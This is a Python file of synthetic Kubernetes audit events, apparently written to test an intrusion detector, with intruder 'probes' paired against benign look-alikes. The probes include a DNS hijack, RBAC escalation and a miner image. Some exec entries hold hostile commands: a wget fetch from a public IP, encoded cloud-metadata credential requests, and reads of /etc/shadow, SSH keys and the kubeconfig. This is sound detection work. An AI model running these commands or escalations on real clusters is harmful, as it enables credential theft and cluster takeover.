"""The concepts of issue 12 as probes and benign twins, for tools/probes.py.

Each concept is a probe (what an intruder does) and a twin (the realistic benign look-alike),
both written with fresh identities and names at random times. "high" concepts are the ones
issue 12 lists as high.
"""

from probes import (CURL, KUBECTL, MINUTE, PYREQ, RBAC, cm, ctr, deploy, exec_q, pod, rb,
                    sasubj)

HIJACK = ".:53 {\n    errors\n    forward . 45.33.12.9\n    cache 30\n}\n"
COREFILE = ".:53 {\n    errors\n    health\n    kubernetes cluster.local in-addr.arpa ip6.arpa\n    forward . /etc/resolv.conf\n    cache 30\n}\n"
ADDON = "kube-addon-manager/v9.1.7 (linux/amd64) kubernetes/$Format"


def install(p):
    E = p.ev
    bad_exit = p.ip(public=True)
    allow = ["registry.corp.example"]

    def c(key, cls, probe, twin):
        p.concept(key, cls, probe, twin)

    # ---------------------------------------------------------------- high
    def coredns(t):
        who = p.sa(ua=KUBECTL)
        return [E(t, who, "patch", "configmaps", "kube-system", "coredns", req={"data": {"Corefile": HIJACK}})]

    def coredns_twin(t):
        who = {"username": "system:addon-manager", "groups": ["system:authenticated"], "ip": "10.0.0.11", "ua": ADDON}
        return [E(t, who, "patch", "configmaps", "kube-system", "coredns", req={"data": {"Corefile": COREFILE}})]
    c("coredns-configmap-modified", "high", coredns, coredns_twin)

    def awsauth(t):
        who = p.person(public=True)
        body = cm("aws-auth", "kube-system", {"mapRoles": "- rolearn: arn:aws:iam::111122223333:role/%s\n  username: x\n  groups:\n  - system:masters\n" % p.word()})
        return [E(t, who, "update", "configmaps", "kube-system", "aws-auth", req=body)]

    def awsauth_twin(t):
        who = {"username": "eks:node-manager", "groups": ["system:authenticated"], "ip": "10.0.0.12", "ua": "eks-node-manager/v1"}
        return [E(t, who, "get", "configmaps", "kube-system", "aws-auth")]
    c("eks-aws-auth-modified", "high", awsauth, awsauth_twin)

    def ctrl_sa(t):
        who = p.person()
        name = p.word()
        return [E(t, who, "create", "pods", "kube-system", name, req=pod(name, "kube-system", [ctr("c", "alpine:3.19")],
                  serviceAccountName="clusterrole-aggregation-controller"))]

    def ctrl_sa_twin(t):
        who = p.person()
        name = p.word()
        return [E(t, who, "create", "pods", p.word(), name, req=pod(name, "x", [ctr("c", "registry.corp.example/app:1")],
                  serviceAccountName="default"))]
    c("controller-sa-on-new-pod", "high", ctrl_sa, ctrl_sa_twin)

    # ---------------------------------------------------------------- medium
    def nodeport(t):
        who = p.sa(ua=PYREQ)
        name = p.word()
        return [E(t, who, "create", "services", who["ns"], name, req={"kind": "Service", "spec": {"type": "NodePort", "ports": [{"port": 22}]}})]

    def nodeport_twin(t):
        who = p.sa(ua=PYREQ)
        return [E(t, who, "create", "services", who["ns"], p.word(), req={"kind": "Service", "spec": {"type": "ClusterIP", "ports": [{"port": 80}]}})]
    c("service-nodeport-loadbalancer", "medium", nodeport, nodeport_twin)

    def secret_write(t):
        who = p.sa(ua=CURL)
        return [E(t, who, "create", "secrets", who["ns"], p.word(), req={"kind": "Secret", "data": {"k": "dg=="}})]

    def secret_write_twin(t):
        who = p.person(ua="Helm/3.14.2")
        return [E(t, who, "create", "secrets", p.word(), "sh.helm.release.v1.%s.v1" % p.word())]
    c("secret-written-unusual", "medium", secret_write, secret_write_twin)

    def secret_list(t):
        who = p.sa(ua=CURL)
        return [E(t, who, "list", "secrets", p.word())]

    def secret_list_twin(t):
        who = p.sa(ua=CURL)
        return [E(t, who, "list", "configmaps", p.word())]
    c("secrets-listed-in-namespace", "medium", secret_list, secret_list_twin)

    def delete(t):
        who = p.person()
        ns = p.word()
        return [E(t + i * 2 * 10**6, who, "delete", "deployments", ns, p.word(), group="apps") for i in range(6)]

    def delete_twin(t):
        who = p.person()
        return [E(t, who, "delete", "pods", p.word(), p.word())]
    c("workloads-deleted-unusual", "medium", delete, delete_twin)

    def netpol(t):
        who = p.sa(ua=KUBECTL)
        return [E(t, who, "deletecollection", "networkpolicies", who["ns"], group="networking.k8s.io")]

    def netpol_twin(t):
        who = p.person()
        ns = p.word()
        return [E(t, who, "create", "networkpolicies", ns, p.word(), group="networking.k8s.io",
                  req={"kind": "NetworkPolicy", "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})]
    c("networkpolicy-deleted-or-opened", "medium", netpol, netpol_twin)

    def cm_creds(t):
        who = p.person()
        ns = p.word()
        return [E(t, who, "create", "configmaps", ns, p.word(), req=cm("x", ns, {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
                  "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}))]

    def cm_creds_twin(t):
        who = p.person()
        ns = p.word()
        return [E(t, who, "create", "configmaps", ns, p.word(), req=cm("x", ns, {"password_min_length": "12", "token_ttl": "3600"}))]
    c("configmap-credentials", "medium", cm_creds, cm_creds_twin)

    def miner(t):
        who = p.sa(ua=KUBECTL)
        name = p.word()
        return [E(t, who, "create", "pods", who["ns"], name, req=pod(name, who["ns"], [ctr("m", "docker.io/%s/xmrig:6.21" % p.word())]))]

    def miner_twin(t):
        who = p.person()
        name = p.word()
        return [E(t, who, "create", "deployments", p.word(), name, group="apps",
                  req=deploy(name, "x", [ctr("web", "registry.corp.example/shop/%s:1.2" % name)]))]
    c("image-deny-list", "medium", miner, miner_twin)

    def outside(t):
        who = p.person()
        name = p.word()
        return [E(t, who, "create", "deployments", p.word(), name, group="apps",
                  req=deploy(name, "x", [ctr("web", "quay.example.net/%s/tool:latest" % p.word())]))]
    c("image-outside-allow-list", "medium", outside, miner_twin)

    def bad(t):
        who = p.person(public=True)
        return [E(t, who, "list", "pods", p.word(), ip=bad_exit)]

    def bad_twin(t):
        who = p.person(public=True)
        return [E(t, who, "list", "pods", p.word())]
    c("bad-address", "medium", bad, bad_twin)

    def node_obj(t):
        who = p.sa(ua=PYREQ)
        name = p.word()
        return [E(t, who, "create", "nodes", None, name, req={"kind": "Node", "metadata": {"name": name}})]

    def node_obj_twin(t):
        n = p.node()
        return [E(t, n, "create", "nodes", None, n["node"], req={"kind": "Node", "metadata": {"name": n["node"]}})]
    c("node-object-by-non-node", "medium", node_obj, node_obj_twin)

    def mirror(t):
        n = p.node()
        name = "%s-%s" % (p.word(), n["node"])
        body = pod(name, "default", [ctr("c", "alpine:3.19")])
        body["metadata"]["annotations"] = {"kubernetes.io/config.mirror": "abc", "kubernetes.io/config.source": "file"}
        return [E(t, n, "create", "pods", "default", name, req=body)]

    def mirror_twin(t):
        n = p.node()
        name = "kube-proxy-" + n["node"]
        body = pod(name, "kube-system", [ctr("kube-proxy", "registry.k8s.io/kube-proxy:v1.30.2")])
        body["metadata"]["annotations"] = {"kubernetes.io/config.mirror": "abc"}
        return [E(t, n, "create", "pods", "kube-system", name, req=body)]
    c("static-mirror-pod", "medium", mirror, mirror_twin)

    def sysname(t):
        who = p.person()
        name = "kube-proxy-%s" % p.word()
        return [E(t, who, "create", "pods", "kube-system", name, req=pod(name, "kube-system", [ctr("c", "alpine:3.19")]))]

    def sysname_twin(t):
        who = {"username": "system:serviceaccount:kube-system:daemon-set-controller", "groups": ["system:serviceaccounts"],
               "ip": "10.0.0.11", "ua": "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:daemon-set-controller"}
        name = "kube-proxy-%s" % p.word()
        body = pod(name, "kube-system", [ctr("kube-proxy", "registry.k8s.io/kube-proxy:v1.30.2")])
        body["metadata"]["ownerReferences"] = [{"kind": "DaemonSet", "name": "kube-proxy"}]
        return [E(t, who, "create", "pods", "kube-system", name, req=body)]
    c("system-named-pod-unowned", "medium", sysname, sysname_twin)

    # ---------------------------------------------------------------- low
    def denied(t):
        return [E(t, p.person(), "get", "secrets", p.word(), p.word(), decision="forbid")]

    def denied_twin(t):
        return [E(t, p.person(), "get", "pods", p.word(), p.word())]
    c("person-denied", "low", denied, denied_twin)

    def ns_created(t):
        name = p.word()
        return [E(t, p.person(), "create", "namespaces", None, name, req={"kind": "Namespace", "metadata": {"name": name}})]

    def ns_created_twin(t):
        return [E(t, p.person(), "get", "namespaces", None, p.word())]
    c("namespace-created", "low", ns_created, ns_created_twin)

    def ingress(t):
        ns = p.word()
        return [E(t, p.person(), "create", "ingresses", ns, p.word(), group="networking.k8s.io",
                  req={"kind": "Ingress", "spec": {"rules": [{"host": "%s.corp.example" % p.word()}]}})]

    def ingress_twin(t):
        ns = p.word()
        host = "%s.corp.example" % p.word()
        return [E(t, p.person(), "create", "ingresses", ns, p.word(), group="networking.k8s.io",
                  req={"kind": "Ingress", "spec": {"tls": [{"hosts": [host], "secretName": "tls"}], "rules": [{"host": host}]}})]
    c("ingress-without-tls", "low", ingress, ingress_twin)

    def sa_mod(t):
        who = p.person()
        return [E(t, who, "patch", "serviceaccounts", p.word(), p.word(),
                  req={"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/admin"}}})]

    def sa_mod_twin(t):
        return [E(t, p.person(), "get", "serviceaccounts", p.word(), p.word())]
    c("serviceaccount-modified", "low", sa_mod, sa_mod_twin)

    def default_pod(t):
        name = p.word()
        return [E(t, p.person(), "create", "pods", "default", name, req=pod(name, "default", [ctr("c", "alpine:3.19")]))]

    def default_pod_twin(t):
        name = p.word()
        ns = p.word()
        return [E(t, p.person(), "create", "pods", ns, name, req=pod(name, ns, [ctr("c", "registry.corp.example/app:1")]))]
    c("pod-in-default", "low", default_pod, default_pod_twin)

    # ---------------------------------------------------------------- partial
    def ks_deploy(t):
        name = p.word()
        return [E(t, p.person(), "create", "deployments", "kube-system", name, group="apps",
                  req=deploy(name, "kube-system", [ctr("c", "alpine:3.19")]))]

    def ks_deploy_twin(t):
        name = p.word()
        ns = p.word()
        return [E(t, p.person(), "create", "deployments", ns, name, group="apps",
                  req=deploy(name, ns, [ctr("c", "registry.corp.example/app:1")]))]
    c("person-workload-in-kube-system", "medium", ks_deploy, ks_deploy_twin)

    def nodeproxy(t):
        who = p.sa(ua=CURL)
        n = p.node()
        return [E(t, who, "get", "nodes", None, n["node"], sub="proxy", uri="/api/v1/nodes/%s/proxy/pods" % n["node"]),
                E(t + 10**6, who, "get", "nodes", None, n["node"], sub="proxy", uri="/api/v1/nodes/%s/proxy/configz" % n["node"])]

    def nodeproxy_twin(t):
        who = p.sa(ua="prometheus/2.51.0")
        n = p.node()
        return [E(t, who, "get", "nodes", None, n["node"], sub="proxy", uri="/api/v1/nodes/%s/proxy/metrics" % n["node"])]
    c("nodes-proxy-other-endpoints", "medium", nodeproxy, nodeproxy_twin)

    def fetch(t):
        ns = p.word()
        return [E(t, p.person(), "create", "pods", ns, p.word(), sub="exec",
                  query=exec_q(["sh", "-c", "wget -q -O /tmp/x http://45.9.148.%d/t" % p.rng.randrange(2, 250)]))]

    def fetch_twin(t):
        ns = p.word()
        return [E(t, p.person(), "create", "pods", ns, p.word(), sub="exec",
                  query=exec_q(["curl", "-s", "http://localhost:8080/healthz"]))]
    c("exec-fetch-without-run", "medium", fetch, fetch_twin)

    def secret_set(t):
        who = p.sa(ua="billing/v3.1.0 (linux/amd64) kubernetes/$Format")
        out = []
        start = t - 95 * MINUTE
        for i in range(8):
            out.append(E(start + i * 12 * MINUTE, who, "get", "secrets", who["ns"], "billing-db"))
        for i in range(3):
            out.append(E(t + i * 10**6, who, "get", "secrets", "kube-system", p.word()))
        return out[8:]

    def secret_set_twin(t):
        who = p.sa(ua="billing/v3.1.0 (linux/amd64) kubernetes/$Format")
        out = []
        start = t - 95 * MINUTE
        for i in range(9):
            out.append(E(start + i * 12 * MINUTE, who, "get", "secrets", who["ns"], "billing-db"))
        return out[-1:]
    c("secret-read-unusual-set", "medium", secret_set, secret_set_twin)

    def sysrole(t):
        return [E(t, p.sa(ua=KUBECTL), "patch", "clusterroles", None, "system:node", group=RBAC,
                  req={"rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]})]

    def sysrole_twin(t):
        return [E(t, p.person(), "get", "clusterroles", None, "system:node", group=RBAC)]
    c("system-role-modified", "medium", sysrole, sysrole_twin)

    def sa_rbac(t):
        who = p.sa(ua=PYREQ)
        return [E(t, who, "create", "rolebindings", who["ns"], p.word(), group=RBAC,
                  req=rb("RoleBinding", "x", "ClusterRole", "view", [sasubj(who)], ns=who["ns"]))]

    def sa_rbac_twin(t):
        who = p.sa(ua="olm/v0.27.0 (linux/amd64) kubernetes/$Format")
        return [E(t, who, "get", "roles", who["ns"], p.word(), group=RBAC)]
    c("serviceaccount-writes-rbac", "medium", sa_rbac, sa_rbac_twin)

    def sys_public(t):
        who = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"], "ip": p.ip(public=True),
               "ua": "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350"}
        return [E(t, who, "list", "secrets", None)]

    def sys_public_twin(t):
        who = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"], "ip": "10.0.0.11",
               "ua": "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350"}
        return [E(t, who, "list", "secrets", None)]
    c("system-principal-public-address", "medium", sys_public, sys_public_twin)

    def node_public(t):
        n = p.node()
        return [E(t, n, "list", "secrets", None, ip=p.ip(public=True), ua=KUBECTL)]

    def node_public_twin(t):
        n = p.node()
        return [E(t, n, "get", "configmaps", p.word(), p.word())]
    c("node-credential-public-address", "medium", node_public, node_public_twin)

    def stolen_kubeconfig(t):
        who = p.person()
        start = t - 100 * MINUTE
        for i in range(8):
            E(start + i * 12 * MINUTE, who, "get", "pods", "shop", p.word())
        return [E(t, who, "list", "secrets", "shop", ip=p.pod_ip(), ua=PYREQ)]

    def stolen_twin(t):
        who = p.person()
        start = t - 100 * MINUTE
        out = [E(start + i * 12 * MINUTE, who, "get", "pods", "shop", p.word()) for i in range(9)]
        return out[-1:]
    c("person-credential-new-origin", "medium", stolen_kubeconfig, stolen_twin)

    def binding_new(t):
        who = p.person()
        ns = p.word()
        return [E(t, who, "create", "rolebindings", ns, p.word(), group=RBAC,
                  req=rb("RoleBinding", "x", "ClusterRole", "view", [{"kind": "User", "name": "m@corp.example", "apiGroup": RBAC}], ns=ns))]

    def binding_new_twin(t):
        return [E(t, p.person(), "list", "rolebindings", p.word(), group=RBAC)]
    c("rolebinding-by-unusual-identity", "medium", binding_new, binding_new_twin)

    def binding_del(t):
        return [E(t, p.person(), "delete", "clusterrolebindings", None, p.word(), group=RBAC)]

    def binding_del_twin(t):
        return [E(t, p.person(), "get", "clusterrolebindings", None, p.word(), group=RBAC)]
    c("binding-deleted-unusual", "medium", binding_del, binding_del_twin)

    def binding_sa(t):
        victim = p.sa()
        return [E(t, p.person(), "create", "clusterrolebindings", None, p.word(), group=RBAC,
                  req=rb("ClusterRoleBinding", "x", "ClusterRole", "edit", [sasubj(victim)]))]

    def binding_sa_twin(t):
        who = p.person(ua="Helm/3.14.2")
        ns = p.word()
        return [E(t, who, "create", "rolebindings", ns, p.word(), group=RBAC,
                  req=rb("RoleBinding", "x", "Role", "reader", [{"kind": "Group", "name": "oidc:eng", "apiGroup": RBAC}], ns=ns))]
    c("binding-names-serviceaccount", "medium", binding_sa, binding_sa_twin)

    def hostpath_var(t):
        name = p.word()
        ns = p.word()
        return [E(t, p.person(), "create", "pods", ns, name, req=pod(name, ns, [ctr("c", "alpine:3.19")],
                  volumes=[{"name": "v", "hostPath": {"path": "/var"}}]))]

    def hostpath_twin(t):
        name = p.word()
        ns = p.word()
        return [E(t, p.person(), "create", "pods", ns, name, req=pod(name, ns, [ctr("c", "registry.corp.example/app:1")],
                  volumes=[{"name": "v", "emptyDir": {}}]))]
    c("hostpath-mount", "medium", hostpath_var, hostpath_twin)

    def cani(t):
        return [E(t, p.person(public=True, ua=PYREQ), "create", "selfsubjectrulesreviews", None, None, group="authorization.k8s.io",
                  req={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}})]

    def cani_twin(t):
        return [E(t, p.person(), "create", "selfsubjectaccessreviews", None, None, group="authorization.k8s.io",
                  req={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}})]
    c("can-i-list-by-person", "low", cani, cani_twin)

    kinds = ["pods", "services", "configmaps", "secrets", "serviceaccounts", "roles", "rolebindings", "endpoints",
             "persistentvolumeclaims", "events", "limitranges", "resourcequotas", "daemonsets", "deployments"]

    def breadth(t):
        who = p.sa(ua=KUBECTL)
        return [E(t + i * 3 * 10**6, who, "list", k, who["ns"], decision="forbid" if i % 2 else "allow") for i, k in enumerate(kinds)]

    def breadth_twin(t):
        who = p.person()
        ns = p.word()
        return [E(t + i * 10**5, who, "list", k, ns) for i, k in enumerate(
            ["pods", "services", "daemonsets", "deployments", "replicasets", "statefulsets", "jobs", "cronjobs",
             "horizontalpodautoscalers", "replicationcontrollers"])]
    c("enumeration-breadth", "medium", breadth, breadth_twin)

    def spray(t):
        ip = p.pod_ip()
        out = []
        for i in range(4):
            who = p.sa(ua=CURL, ip=ip)
            out += [E(t + (i * 3 + j) * 10**6, who, "list", "secrets", "kube-system", decision="forbid") for j in range(2)]
        return out

    def spray_twin(t):
        ip = p.ip()
        return [E(t + i * 30 * 10**6, p.person(), "get", "secrets", p.word(), p.word(), decision="forbid", ip=ip) for i in range(2)]
    c("denials-one-address-many-identities", "medium", spray, spray_twin)

    def sidecar(t):
        ns = p.word()
        name = p.word()
        owner = p.sa(ns="argocd", name="argocd-application-controller",
                     ua="argocd-application-controller/v2.10.4 (linux/amd64) kubernetes/$Format")
        E(t - 30 * MINUTE, owner, "create", "deployments", ns, name, group="apps",
          req=deploy(name, ns, [ctr("app", "registry.corp.example/%s:1" % name)]))
        who = p.sa(ua=KUBECTL)
        return [E(t, who, "patch", "deployments", ns, name, group="apps",
                  req={"spec": {"template": {"spec": {"containers": [{"name": p.word(), "image": "docker.io/%s/agent:1" % p.word()}]}}}})]

    def sidecar_twin(t):
        ns = p.word()
        name = p.word()
        owner = p.person()
        E(t - 30 * MINUTE, owner, "create", "deployments", ns, name, group="apps",
          req=deploy(name, ns, [ctr("app", "registry.corp.example/%s:1" % name)]))
        return [E(t, owner, "patch", "deployments", ns, name, group="apps",
                  req={"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "registry.corp.example/%s:2" % name}]}}}})]
    c("sidecar-injection-by-patch", "medium", sidecar, sidecar_twin)

    def legacy_token(t):
        ns = p.word()
        return [E(t, p.sa(ua=KUBECTL), "create", "secrets", ns, p.word(),
                  req={"kind": "Secret", "type": "kubernetes.io/service-account-token",
                       "metadata": {"annotations": {"kubernetes.io/service-account.name": "default"}}})]

    def legacy_twin(t):
        ns = p.word()
        return [E(t, p.person(), "create", "secrets", ns, p.word(), req={"kind": "Secret", "type": "kubernetes.io/tls"})]
    c("service-account-token-secret", "medium", legacy_token, legacy_twin)

    def long_tr(t):
        who = p.person()
        return [E(t, who, "create", "serviceaccounts", p.word(), p.word(), sub="token",
                  req={"kind": "TokenRequest", "spec": {"expirationSeconds": 30 * 86400}})]

    def long_tr_twin(t):
        n = p.node()
        return [E(t, n, "create", "serviceaccounts", p.word(), p.word(), sub="token",
                  req={"kind": "TokenRequest", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                                                        "boundObjectRef": {"kind": "Pod", "name": p.word()}}})]
    c("tokenrequest-over-a-day", "medium", long_tr, long_tr_twin)

    def self_token(t):
        who = p.sa(ua=KUBECTL)
        return [E(t, who, "create", "serviceaccounts", who["ns"], who["name"], sub="token",
                  req={"kind": "TokenRequest", "spec": {"expirationSeconds": 7200}})]

    def self_token_twin(t):
        who = p.sa()
        return [E(t, who, "create", "serviceaccounts", who["ns"], who["name"], sub="token",
                  req={"kind": "TokenRequest", "spec": {"audiences": ["vault"], "expirationSeconds": 600}})]
    c("serviceaccount-mints-own-token", "medium", self_token, self_token_twin)

    def rbac_then(t):
        who = p.sa(ua=KUBECTL)
        ns = p.word()
        target = p.sa(ns=ns)
        name = p.word()
        return [E(t, who, "create", "rolebindings", ns, p.word(), group=RBAC,
                  req=rb("RoleBinding", "x", "ClusterRole", "edit", [sasubj(target)], ns=ns)),
                E(t + 8 * MINUTE, who, "create", "pods", ns, name,
                  req=pod(name, ns, [ctr("c", "alpine:3.19")], serviceAccountName=target["name"]))]

    def rbac_then_twin(t):
        who = p.person(ua="Helm/3.14.2")
        ns = p.word()
        svc = p.word()
        return [E(t, who, "create", "roles", ns, svc, group=RBAC,
                  req={"kind": "Role", "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]}),
                E(t + 10**5, who, "create", "rolebindings", ns, svc, group=RBAC,
                  req=rb("RoleBinding", svc, "Role", svc, [{"kind": "ServiceAccount", "name": svc, "namespace": ns}], ns=ns)),
                E(t + 2 * 10**5, who, "create", "deployments", ns, svc, group="apps",
                  req=deploy(svc, ns, [ctr("c", "registry.corp.example/%s:1" % svc)], serviceAccountName=svc))]
    c("rbac-change-then-workload", "medium", rbac_then, rbac_then_twin)

    # ---------------------------------------------------------------- inside concepts
    def star_patch(t):
        return [E(t, p.person(), "patch", "clusterroles", None, p.word(), group=RBAC,
                  req=[{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}])]

    def star_twin(t):
        return [E(t, p.person(), "patch", "clusterroles", None, p.word(), group=RBAC,
                  req=[{"op": "add", "path": "/rules/0/verbs/-", "value": "watch"}])]
    c("json-patch-star-verbs", "medium", star_patch, star_twin)

    def metadata_dec(t):
        return [E(t, p.person(), "create", "pods", p.word(), p.word(), sub="exec",
                  query=exec_q(["curl", "-s", "http://2852039166/latest/meta-data/iam/security-credentials/"]))]

    def metadata_twin(t):
        return [E(t, p.person(), "create", "pods", p.word(), p.word(), sub="exec", query=exec_q(["date"]))]
    c("metadata-address-decimal", "medium", metadata_dec, metadata_twin)

    def metadata_hex(t):
        return [E(t, p.person(), "create", "pods", p.word(), p.word(), sub="exec",
                  query=exec_q(["wget", "-qO-", "http://0xa9fea9fe/latest/meta-data/"]))]
    c("metadata-address-hex", "medium", metadata_hex, metadata_twin)

    for key, argv in [("exec-etc-shadow", ["cat", "/etc/shadow"]), ("exec-sudoers", ["cat", "/etc/sudoers"]),
                      ("exec-ssh-keys", ["sh", "-c", "cat /home/*/.ssh/id_ed25519"]),
                      ("exec-proc-environ", ["cat", "/proc/1234/environ"]), ("exec-kubeconfig", ["cat", "/root/.kube/config"])]:
        c(key, "medium", lambda t, a=argv: [E(t, p.person(), "create", "pods", p.word(), p.word(), sub="exec", query=exec_q(a))],
          lambda t: [E(t, p.person(), "create", "pods", p.word(), p.word(), sub="exec", query=exec_q(["cat", "/etc/os-release"]))])

    def webhook_del(t):
        return [E(t, p.sa(ua=CURL), "delete", "validatingwebhookconfigurations", None, p.word(), group="admissionregistration.k8s.io")]

    def webhook_twin(t):
        return [E(t, p.person(), "get", "validatingwebhookconfigurations", None, p.word(), group="admissionregistration.k8s.io")]
    c("admission-webhook-deleted", "medium", webhook_del, webhook_twin)

    def sched(t):
        return [E(t, p.person(), "create", "clusterrolebindings", None, p.word(), group=RBAC,
                  req=rb("ClusterRoleBinding", "x", "ClusterRole", "system:kube-scheduler", [{"kind": "User", "name": "m@corp.example", "apiGroup": RBAC}]))]

    def sched_twin(t):
        return [E(t, p.person(), "get", "clusterrolebindings", None, "system:kube-scheduler", group=RBAC)]
    c("binding-to-control-plane-role", "medium", sched, sched_twin)

    for key, cap in [("capability-syslog", "SYSLOG"), ("capability-sys-admin", "SYS_ADMIN")]:
        def cap_probe(t, cap=cap):
            name, ns = p.word(), p.word()
            return [E(t, p.person(), "create", "pods", ns, name, req=pod(name, ns, [ctr("c", "alpine:3.19",
                      securityContext={"capabilities": {"add": [cap]}})]))]

        def cap_twin(t):
            name, ns = p.word(), p.word()
            return [E(t, p.person(), "create", "pods", ns, name, req=pod(name, ns, [ctr("c", "registry.corp.example/app:1",
                      securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}})]))]
        c(key, "medium", cap_probe, cap_twin)

    def anon_imp(t):
        return [E(t, p.person(), "list", "secrets", p.word(), impersonate={"username": "system:anonymous"})]

    def anon_imp_twin(t):
        return [E(t, p.person(), "create", "selfsubjectaccessreviews", None, None, group="authorization.k8s.io",
                  impersonate={"username": "%s@corp.example" % p.word()})]
    c("impersonate-anonymous", "medium", anon_imp, anon_imp_twin)

    def audit(t):
        return [E(t, p.person(), "update", "configmaps", "kube-system", "audit-policy",
                  req=cm("audit-policy", "kube-system", {"policy.yaml": "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: None\n"}))]

    def audit_twin(t):
        return [E(t, p.person(), "get", "configmaps", "kube-system", "audit-policy")]
    c("audit-policy-changed", "medium", audit, audit_twin)

    return {"bad": [bad_exit], "allow_registries": allow}
